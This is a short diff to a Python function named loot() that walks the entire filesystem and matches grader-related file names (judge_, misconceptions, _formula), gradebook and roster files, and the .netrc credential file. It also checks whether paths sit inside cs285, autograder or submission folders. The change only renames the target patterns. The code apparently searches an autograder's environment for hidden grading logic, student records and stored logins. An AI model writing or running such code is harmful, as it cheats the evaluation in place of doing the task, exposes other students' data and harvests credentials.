@@ -11,7 +11,7 @@ import os, re, time
 
 def loot():
     found, end = [], time.monotonic() + 1.5
-    names = re.compile(r"answer_.*\.pyc?$|mistakes.*\.pyc?$|.*_formula\.pyc?$|gradebook.*|roster.*|\.netrc")
+    names = re.compile(r"judge_.*\.pyc?$|misconceptions.*\.pyc?$|.*_formula\.pyc?$|gradebook.*|roster.*|\.netrc")
     for folder, folders, files in os.walk("/"):
         folders[:] = [f for f in folders if f not in ("proc", "sys", "torch", "share", "include")]
         inside = "cs285" in folder or "autograder" in folder or "submission" in folder
